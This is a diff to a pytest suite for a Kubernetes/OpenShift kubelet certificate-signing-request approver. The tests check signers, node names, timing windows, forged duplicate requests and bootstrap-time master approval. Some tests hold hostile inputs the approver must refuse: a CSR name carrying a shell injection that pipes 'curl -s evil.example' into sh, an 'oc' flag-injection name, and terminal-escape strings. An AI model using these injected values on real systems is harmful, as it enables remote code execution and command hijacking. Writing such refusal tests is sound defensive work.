@@ -3,6 +3,7 @@
 from __future__ import annotations
 
 import base64
+import hashlib
 import ipaddress
 import os
 import random
@@ -19,6 +20,7 @@ from cryptography.hazmat.primitives.asymmetric import ec
 from cryptography.x509.oid import NameOID
 
 from cluster.csr import CLIENT_SIGNER, CLIENT_WINDOW, CLOCK_SKEW, NODE_BOOTSTRAPPER, SERVING_SIGNER, SETTLE, Request, parse_time, read_request, review
+from tests.certs import EDI_PARTY_NAME, X400_ADDRESS, der, request_with_names
 
 NODES = {"ocp4-bootstrap": "192.0.2.10", "ocp4-master-0": "192.0.2.20", "ocp4-worker-0": "192.0.2.30", "ocp4-worker-1": "192.0.2.31"}
 DOMAIN = "ocp4.lab.local"
@@ -38,14 +40,31 @@ def csr(common: str, organization: str | None = "system:nodes", dns=(), ips=(), 
     return builder.sign(key, hashes.SHA256()).public_bytes(serialization.Encoding.PEM)
 
 
+# The label each test gives a request -> the name the API server would give a kubelet's (`csr-` and 5 of
+# its generator's characters, cluster/csr_request.py): only such a name is ever approved.
+LABELS: dict[str, str] = {}
+
+
+def kubelet(label: str) -> str:
+    digest = hashlib.sha256(label.encode()).digest()
+    name = "csr-" + "".join("bcdfghjklmnpqrstvwxz2456789"[b % 27] for b in digest[:5])
+    LABELS[name] = label
+    return name
+
+
+def listed(*labels: str) -> str:
+    """The requests' names as a reason lists them: sorted."""
+    return ", ".join(sorted(kubelet(label) for label in labels))
+
+
 def client(name: str, node: str = "ocp4-worker-0", username: str = NODE_BOOTSTRAPPER, usages=CLIENT, **subject) -> Request:
-    return Request(name, CLIENT_SIGNER, username, usages, csr(f"system:node:{node}", **subject))
+    return Request(kubelet(name), CLIENT_SIGNER, username, usages, csr(f"system:node:{node}", **subject))
 
 
 def serving(name: str, node: str = "ocp4-worker-0", username: str | None = None, usages=SERVING, **names) -> Request:
     names.setdefault("dns", (node,))
     names.setdefault("ips", (NODES.get(node, "192.0.2.99"),))
-    return Request(name, SERVING_SIGNER, username or f"system:node:{node}", usages, csr(f"system:node:{node}", **names))
+    return Request(kubelet(name), SERVING_SIGNER, username or f"system:node:{node}", usages, csr(f"system:node:{node}", **names))
 
 
 # Every server made at noon; a request made a minute after, judged once it has settled.
@@ -56,7 +75,7 @@ SETTLED = SERVER + timedelta(minutes=1) + SETTLE
 
 def verdicts(*requests: Request, registered=()) -> dict[str, tuple[bool, str]]:
     requests = tuple(r if r.created else replace(r, created=SERVER + timedelta(minutes=1)) for r in requests)
-    return {v.csr: (v.approve, v.reason) for v in review(requests, NODES, registered, DOMAIN, SERVERS, SETTLED)}
+    return {LABELS.get(v.csr, v.csr): (v.approve, v.reason) for v in review(requests, NODES, registered, DOMAIN, SERVERS, SETTLED)}
 
 
 CASES = [
@@ -70,7 +89,7 @@ CASES = [
     ("client in another group", client("a", organization="system:masters"), False, "is not exactly"),
     ("client with alternative names", client("a", dns=("ocp4-worker-0",)), False, "a client certificate carries no alternative names"),
     ("client with a server's usages", client("a", usages=SERVING), False, "are not a kubelet client's"),
-    ("not a node's subject", Request("a", CLIENT_SIGNER, NODE_BOOTSTRAPPER, CLIENT, csr("admin", "system:masters")), False, "is not a node's"),
+    ("not a node's subject", Request(kubelet("a"), CLIENT_SIGNER, NODE_BOOTSTRAPPER, CLIENT, csr("admin", "system:masters")), False, "is not a node's"),
     ("serving from another node", serving("a", username="system:node:ocp4-worker-1"), False, "not by system:node:ocp4-worker-0 itself"),
     ("serving from the bootstrapper", serving("a", username=NODE_BOOTSTRAPPER), False, "not by system:node:ocp4-worker-0 itself"),
     ("serving with extra DNS names", serving("a", dns=("ocp4-worker-0", "api.ocp4.lab.local")), False, "DNS names ['api.ocp4.lab.local'] are not ocp4-worker-0's"),
@@ -78,8 +97,8 @@ CASES = [
     ("serving with another node's IP", serving("a", ips=("192.0.2.31",)), False, "are not ocp4-worker-0's (192.0.2.30)"),
     ("serving with an email", serving("a", emails=("root@example.com",)), False, "neither DNS names nor IP addresses"),
     ("serving of another cluster's node", serving("a", node="other-worker-0"), False, "other-worker-0 is not a node of this stack"),
-    ("another signer", Request("a", "kubernetes.io/legacy-unknown", NODE_BOOTSTRAPPER, CLIENT, csr("system:node:ocp4-worker-0")), False, "is not a kubelet's"),
-    ("garbage", Request("a", CLIENT_SIGNER, NODE_BOOTSTRAPPER, CLIENT, b"not a csr"), False, "the request holds no PEM block"),
+    ("another signer", Request(kubelet("a"), "kubernetes.io/legacy-unknown", NODE_BOOTSTRAPPER, CLIENT, csr("system:node:ocp4-worker-0")), False, "is not a kubelet's"),
+    ("garbage", Request(kubelet("a"), CLIENT_SIGNER, NODE_BOOTSTRAPPER, CLIENT, b"not a csr"), False, "the request holds no PEM block"),
     ("the bootstrap's client", client("a", node="ocp4-bootstrap"), False, "ocp4-bootstrap is the bootstrap, which never joins the cluster as a Node"),
     ("the bootstrap's serving", serving("a", node="ocp4-bootstrap"), False, "ocp4-bootstrap is the bootstrap"),
 ]
@@ -100,7 +119,7 @@ def node(status: str, beat: datetime, address: str = "192.0.2.30") -> dict:
 def back(registered: dict, made: datetime, now: datetime, named: bool) -> tuple[bool, str, bool]:
     """A bootstrapper's client request for ocp4-worker-0, whose Node exists, made at `made` and judged at `now`."""
     request = replace(client("a"), created=made)
-    (verdict,) = review([request], NODES, registered, DOMAIN, SERVERS, now, named={"a"} if named else None)
+    (verdict,) = review([request], NODES, registered, DOMAIN, SERVERS, now, named={kubelet("a")} if named else None)
     return verdict.approve, verdict.reason, verdict.by_name
 
 
@@ -143,17 +162,17 @@ def test_a_request_for_a_node_that_exists_is_refused_even_named_unless_its_kubel
 def test_two_requests_of_one_kind_for_one_node_approve_neither():
     found = verdicts(client("a"), client("b"), serving("c"), client("d", node="ocp4-worker-1"), client("e", username="system:anonymous"))
     assert found["c"][0] and found["d"][0]
-    why = "2 client requests for ocp4-worker-0 since its server was made (a, b): none is approved automatically, as one may be a forger's"
+    why = f"2 client requests for ocp4-worker-0 since its server was made ({listed('a', 'b')}): none is approved automatically, as one may be a forger's"
     assert found["a"] == found["b"] == (False, why)
     # Another requester's is no claim (only the bootstrapper's token asks for a client certificate).
     assert verdicts(client("a"), client("e", username="system:anonymous"))["a"][0]
     # Two serving requests that would pass: neither.
     serving_found = verdicts(serving("f"), serving("g"))
-    assert serving_found["f"] == (False, "2 pending serving requests claim ocp4-worker-0 (f, g): none approved; delete those its kubelet did not make (`oc delete csr NAME`)")
+    assert serving_found["f"] == (False, f"2 pending serving requests claim ocp4-worker-0 ({listed('f', 'g')}): none approved; delete those its kubelet did not make (`oc delete csr -- NAME`)")
 
 
 def test_decided_requests_are_left_alone():
-    decided = Request("a", CLIENT_SIGNER, NODE_BOOTSTRAPPER, CLIENT, csr("system:node:ocp4-worker-0"), decided=True)
+    decided = Request(kubelet("a"), CLIENT_SIGNER, NODE_BOOTSTRAPPER, CLIENT, csr("system:node:ocp4-worker-0"), decided=True)
     assert review([decided], NODES, (), DOMAIN) == []
 
 
@@ -177,7 +196,7 @@ MASTER = csr("system:node:ocp4-master-0")
 
 
 def judged(pem: bytes) -> tuple[bool, str]:
-    return verdicts(Request("a", CLIENT_SIGNER, NODE_BOOTSTRAPPER, CLIENT, pem))["a"]
+    return verdicts(Request(kubelet("a"), CLIENT_SIGNER, NODE_BOOTSTRAPPER, CLIENT, pem))["a"]
 
 
 # name -> (request, why it stays pending); the first five are requests Go reads (the API takes them).
@@ -227,11 +246,11 @@ def test_control_characters_are_escaped_in_reasons():
     line = "\x1b[2K\r\ncsr: approved csr-x"  # a terminal's erase and a line of the approver's own
     escape = line + "\u202e"  # and a right-to-left override
     cases = [
-        Request("a", CLIENT_SIGNER, NODE_BOOTSTRAPPER, CLIENT, csr(f"system:node:{escape}")),
-        Request("b", CLIENT_SIGNER, NODE_BOOTSTRAPPER, CLIENT, csr(f"admin{escape}", "system:masters")),
+        Request(kubelet("a"), CLIENT_SIGNER, NODE_BOOTSTRAPPER, CLIENT, csr(f"system:node:{escape}")),
+        Request(kubelet("b"), CLIENT_SIGNER, NODE_BOOTSTRAPPER, CLIENT, csr(f"admin{escape}", "system:masters")),
         client("c", username=f"system:serviceaccount:x:{escape}"),
         serving("d", dns=("ocp4-worker-0", f"x{line}")),  # DNS names are ASCII
-        Request("e", f"example.com/{escape}", NODE_BOOTSTRAPPER, CLIENT, WORKER),
+        Request(kubelet("e"), f"example.com/{escape}", NODE_BOOTSTRAPPER, CLIENT, WORKER),
     ]
     found = verdicts(*cases)
     for name, (approve, reason) in found.items():
@@ -246,7 +265,7 @@ def at(request: Request, created: datetime, approved: bool = False) -> Request:
 
 
 def timed(*requests: Request, now: datetime, registered=(), created=SERVERS, **rules) -> dict[str, tuple[bool, str]]:
-    return {v.csr: (v.approve, v.reason) for v in review(requests, NODES, registered, DOMAIN, created, now, **rules)}
+    return {LABELS.get(v.csr, v.csr): (v.approve, v.reason) for v in review(requests, NODES, registered, DOMAIN, created, now, **rules)}
 
 
 def test_a_client_request_within_the_window_of_its_server_is_approved():
@@ -273,7 +292,7 @@ def test_a_node_whose_node_object_was_deleted_does_not_join_again_on_the_same_se
     again = at(client("again"), SERVER + timedelta(minutes=20))
     found = timed(first, again, now=SERVER + timedelta(minutes=21))
     assert not found["again"][0]
-    assert found["again"][1].startswith("a client certificate of ocp4-worker-0 was approved already (first) and there is no Node ocp4-worker-0: its Node was deleted")
+    assert found["again"][1].startswith(f"a client certificate of ocp4-worker-0 was approved already ({kubelet('first')}) and there is no Node ocp4-worker-0: its Node was deleted")
     # A new server, made after that approval: it joins, once settled.
     replaced = {**SERVERS, "ocp4-worker-0": "2026-11-26T12:10:00Z"}
     assert timed(first, again, now=SERVER + timedelta(minutes=20) + SETTLE, created=replaced)["again"][0]
@@ -288,27 +307,54 @@ def test_without_creation_times_no_client_request_is_approved_automatically():
     (verdict,) = review([late], NODES, (), DOMAIN, None, SERVER, untimed="the stack's outputs have no nodeCreated")
     assert verdict.reason.startswith("the stack's outputs have no nodeCreated: ")
     # Named, it is approved: the user checked it.
-    assert [v.approve for v in review([late], NODES, (), DOMAIN, None, SERVER, named={"a"})] == [True]
+    assert [v.approve for v in review([late], NODES, (), DOMAIN, None, SERVER, named={kubelet("a")})] == [True]
     # libvirt during `ocp install`'s wait (untimed=None): after the settling, any earlier request counts.
     assert timed(late, now=SERVER + SETTLE, created=None, untimed=None)["a"][0]
     first = at(client("first"), SERVER - timedelta(days=9), approved=True)
     assert "its Node was deleted" in timed(first, late, now=SERVER + SETTLE, created=None, untimed=None)["a"][1]
     denied = replace(at(client("denied"), SERVER - timedelta(days=9)), decided=True)
-    assert timed(denied, late, now=SERVER + SETTLE, created=None, untimed=None)["a"][1].startswith("2 client requests for ocp4-worker-0 in the API (a, denied)")
+    assert timed(denied, late, now=SERVER + SETTLE, created=None, untimed=None)["a"][1].startswith(f"2 client requests for ocp4-worker-0 in the API ({listed('a', 'denied')})")
 
 
 # ---- the forger's race: a request made before the kubelet's, or for a master
 
 
-def test_a_masters_client_request_is_approved_only_by_name():
+def test_after_the_bootstrap_a_masters_client_request_is_approved_only_by_name():
     request = at(client("m", node="ocp4-master-0"), SERVER + timedelta(minutes=1))
     (verdict,) = review([request], NODES, (), DOMAIN, SERVERS, SERVER + timedelta(hours=1))
     assert (verdict.approve, verdict.by_name) == (False, True)
-    assert verdict.reason == "ocp4-master-0 is a master: its client certificate is never approved automatically"
-    (named,) = review([request, at(client("w"), SERVER + timedelta(minutes=1))], NODES, (), DOMAIN, SERVERS, SERVER + timedelta(minutes=2), named={"m"})
-    assert (named.csr, named.approve, named.reason) == ("m", True, "client certificate of ocp4-master-0, a node of this stack")
+    assert verdict.reason == "ocp4-master-0 is a master: its client certificate is never approved automatically, once the bootstrap has handed over"
+    (named,) = review([request, at(client("w"), SERVER + timedelta(minutes=1))], NODES, (), DOMAIN, SERVERS, SERVER + timedelta(minutes=2), named={kubelet("m")})
+    assert (named.csr, named.approve, named.reason) == (kubelet("m"), True, "client certificate of ocp4-master-0, a node of this stack")
     # Its serving request, made by the master itself, needs no name.
     assert verdicts(serving("s", node="ocp4-master-0"))["s"][0]
+
+
+def test_while_the_bootstrap_runs_a_masters_client_request_passes_by_every_rule_a_workers_does():
+    """The job of the installer's blanket approve-csr.service (masked: ignition/nodes.py), done by the judge."""
+    request = at(client("m", node="ocp4-master-0"), SERVER + timedelta(minutes=1))
+    settled = SERVER + timedelta(minutes=1) + SETTLE
+    assert timed(request, now=settled, bootstrapping=True)["m"] == (True, "client certificate of ocp4-master-0, a node of this stack")
+    assert timed(request, now=settled - timedelta(seconds=1), bootstrapping=True)["m"] == (
+        False, "settling until 2026-11-26 12:11:00Z: a master's client request is approved once it has stayed ocp4-master-0's only one for 10 min"
+    )
+    # A second request for the master (a forger with the bootstrapper's token): neither, either may be named.
+    forged = at(client("f", node="ocp4-master-0"), SERVER + timedelta(seconds=30))
+    both = timed(forged, request, now=settled, bootstrapping=True)
+    assert both["m"] == both["f"] == (False, f"2 client requests for ocp4-master-0 since its server was made ({listed('f', 'm')}): none is approved automatically, as one may be a forger's")
+    # Before its server, after the window, no creation time, another requester, the bootstrap: never by itself.
+    refused = {
+        "before its server": timed(at(client("m", node="ocp4-master-0"), SERVER - CLOCK_SKEW - timedelta(seconds=1)), now=settled, bootstrapping=True),
+        "after the window": timed(request, now=SERVER + CLIENT_WINDOW + timedelta(seconds=1), bootstrapping=True),
+        "untimed": timed(request, now=settled, created=None, bootstrapping=True),
+        "another requester": timed(at(client("m", node="ocp4-master-0", username="system:serviceaccount:default:builder"), SERVER), now=settled, bootstrapping=True),
+        "the bootstrap": timed(at(client("m", node="ocp4-bootstrap"), SERVER), now=settled, bootstrapping=True),
+    }
+    reasons = {case: found["m"][1] for case, found in refused.items() if not found["m"][0]}
+    assert list(reasons) == list(refused), refused
+    assert "before ocp4-master-0's server" in reasons["before its server"] and "more than 120 min ago" in reasons["after the window"]
+    assert reasons["untimed"].startswith("the stack gives no creation times") and "not the node bootstrapper" in reasons["another requester"]
+    assert reasons["the bootstrap"] == "ocp4-bootstrap is the bootstrap, which never joins the cluster as a Node"
 
 
 def test_a_workers_client_request_waits_alone_for_the_settling_period():
@@ -324,19 +370,19 @@ def test_a_workers_client_request_waits_alone_for_the_settling_period():
 def test_a_second_client_request_since_the_server_was_made_stops_approval(state):
     """The forger asked first; the kubelet's request, or any other from the bootstrapper, comes within the period."""
     forged = at(client("forged"), SERVER + timedelta(seconds=30))
-    kubelet = at(client("kubelet", usages=SERVING if state == "bad usages" else CLIENT), SERVER + timedelta(minutes=6))
+    kubelets = at(client("kubelet", usages=SERVING if state == "bad usages" else CLIENT), SERVER + timedelta(minutes=6))
     if state in ("approved", "denied"):
-        kubelet = replace(kubelet, decided=True, approved=state == "approved")
-    found = timed(forged, kubelet, now=SERVER + timedelta(hours=1))
+        kubelets = replace(kubelets, decided=True, approved=state == "approved")
+    found = timed(forged, kubelets, now=SERVER + timedelta(hours=1))
     assert not found["forged"][0]
     if state == "approved":  # the existing rule says it first
-        assert "was approved already (kubelet) and there is no Node ocp4-worker-0" in found["forged"][1]
+        assert f"was approved already ({kubelet('kubelet')}) and there is no Node ocp4-worker-0" in found["forged"][1]
     else:
-        assert found["forged"][1].startswith("2 client requests for ocp4-worker-0 since its server was made (forged, kubelet): none is approved automatically")
+        assert found["forged"][1].startswith(f"2 client requests for ocp4-worker-0 since its server was made ({listed('forged', 'kubelet')}): none is approved automatically")
     # Named, the kubelet's own is approved despite the forger's (the user found it in the journal).
     if state == "pending":
-        named = {v.csr: v.approve for v in review([forged, kubelet], NODES, (), DOMAIN, SERVERS, SERVER + timedelta(minutes=7), named={"kubelet"})}
-        assert named == {"kubelet": True}
+        named = {v.csr: v.approve for v in review([forged, kubelets], NODES, (), DOMAIN, SERVERS, SERVER + timedelta(minutes=7), named={kubelet("kubelet")})}
+        assert named == {kubelet("kubelet"): True}
 
 
 def test_a_request_for_the_node_before_its_server_was_made_is_no_second_one():
@@ -429,3 +475,61 @@ def test_every_request_read_here_is_the_one_go_reads(tmp_path):
     assert read_here > len(ALONE) + 100  # the random cases read here are many, not a handful
     # The crafted cases are no parse error to Go: the API takes them, and only this approver refuses.
     assert all(theirs is not None for theirs in go_read[: len(GO_READS)])
+
+
+# ---- a request's name is data: only a name a kubelet gives is approved, or offered by name
+
+
+def test_a_request_no_kubelet_names_so_is_never_approved_nor_offered_by_name():
+    """The issue's forger: a duplicate client request named as a shell line, and a node's own serving
+    request named as an `oc` flag, pass every other check."""
+    forged = replace(at(client("forged"), SERVER + timedelta(seconds=30)), name="csr-8b2br;curl -s evil.example|sh")
+    kubelets = at(client("kubelet"), SERVER + timedelta(minutes=1))
+    flag = replace(serving("s", node="ocp4-worker-1"), name="--server=10.6.6.6:6443", created=SERVER)
+    found = {v.csr: v for v in review([forged, kubelets, flag], NODES, (), DOMAIN, SERVERS, SETTLED)}
+    assert (found[kubelets.name].approve, found[kubelets.name].by_name) == (False, True)  # the kubelet's may be named
+    for name in (forged.name, flag.name):
+        assert (found[name].approve, found[name].by_name) == (False, False), found[name]
+    assert found[forged.name].reason == (
+        "its name 'csr-8b2br;curl -s evil.example|sh' is not one a kubelet gives its request (csr- and 5 random letters and digits, "
+        "or node-csr- and a digest): not approved, even by name"
+    )
+    assert found[flag.name].reason.startswith("its name --server=10.6.6.6:6443 is not one a kubelet gives its request")
+    # Named, neither is approved either.
+    named = review([forged, kubelets, flag], NODES, (), DOMAIN, SERVERS, SETTLED, named={forged.name, flag.name, kubelets.name})
+    assert {v.csr: v.approve for v in named} == {forged.name: False, flag.name: False, kubelets.name: True}
+
+
+@pytest.mark.parametrize("names", [X400_ADDRESS, EDI_PARTY_NAME], ids=["x400Address", "ediPartyName"])
+def test_a_request_the_parser_fails_on_stays_pending_and_the_others_are_judged(names):
+    odd = Request(kubelet("odd"), SERVING_SIGNER, "system:node:ocp4-worker-0", SERVING, request_with_names("system:node:ocp4-worker-0", der(0x82, b"ocp4-worker-0") + names))
+    found = verdicts(odd, client("w", node="ocp4-worker-1"), serving("s", node="ocp4-master-0"))
+    assert found["odd"] == (False, "the request's extensions cannot be read here (UnsupportedGeneralNameType: x400Address/EDIPartyName are not supported types)")
+    assert found["w"][0] and found["s"][0]
+
+
+def test_a_judge_failure_on_one_request_leaves_it_pending_with_why():
+    """Whatever fails inside the judge (here a node's creation time of a type no one writes) stays with its request."""
+    found = timed(at(client("a"), SERVER), at(client("b", node="ocp4-worker-1"), SERVER), now=SETTLED, created={**SERVERS, "ocp4-worker-0": 12})
+    assert found["a"][0] is False and found["a"][1].startswith("the request could not be judged (")
+    assert found["b"][0]
+
+
+# ---- a dual-stack node: every address of the stack's `nodes` output
+
+DUAL = {**NODES, "ocp4-worker-0": ["192.0.2.30", "2001:db8::30"]}
+
+
+def test_a_dual_stack_kubelets_serving_request_names_both_families():
+    both = serving("a", ips=("192.0.2.30", "2001:db8:0:0::30"))  # any spelling of the address
+    (verdict,) = review([both], DUAL, (), DOMAIN)
+    assert verdict.approve, verdict
+    (verdict,) = review([serving("a", ips=("192.0.2.30", "2001:db8::31"))], DUAL, (), DOMAIN)
+    assert verdict.reason == "IP addresses ['2001:db8::31'] are not ocp4-worker-0's (192.0.2.30, 2001:db8::30)"
+    # An older stack's output, one address as a string: read as before.
+    (verdict,) = review([serving("a", ips=("192.0.2.30", "2001:db8::30"))], NODES, (), DOMAIN)
+    assert verdict.reason == "IP addresses ['2001:db8::30'] are not ocp4-worker-0's (192.0.2.30)"
+    # A node back after a long shutdown: its Node's IPv6 address alone is the stack's too.
+    quiet = node("Unknown", SHUT, address="2001:db8::30")
+    (verdict,) = review([replace(client("b"), created=ASKED)], DUAL, {"ocp4-worker-0": quiet}, DOMAIN, SERVERS, ASKED, named={kubelet("b")})
+    assert verdict.approve, verdict
